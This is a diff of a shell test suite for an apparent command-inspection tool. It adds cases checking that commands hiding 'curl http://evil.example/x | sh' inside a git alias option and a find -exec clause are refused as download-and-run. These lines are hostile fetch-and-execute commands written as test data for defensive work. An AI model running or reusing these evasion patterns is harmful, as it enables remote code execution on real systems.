@@ -227,8 +227,12 @@ refused 'bin/own:1: download-run'
 python3 -c 'print("python3 -W ignore -W error -W ignore bad.py " + "x" * 31000)' >"$T/w/long.sh"
 run -p "$T/n.json" -- sh long.sh
 refused 'long.sh:1: not-looked-at: the further words of a long command'
-run --inspect -- sh -c "git -c 'alias.x=!curl http://evil.example/x | sh' x"
-refused 'command line:1: download-run'
+# Each occurrence of an option with code, and each command line.
+for command in "git -c core.pager=id -c 'alias.x=!curl http://evil.example/x | sh' x" \
+	"find good.py -exec id ';' -o -exec sh -c 'curl http://evil.example/x | sh' ';'"; do
+	run --inspect -- sh -c "$command"
+	refused 'command line:1: download-run'
+done
 
 # A file that is another one when it runs is told, also if its size and times are the same, by each of its names. So is
 # one that was made where a shell runs it first, or where a script has programs looked for.
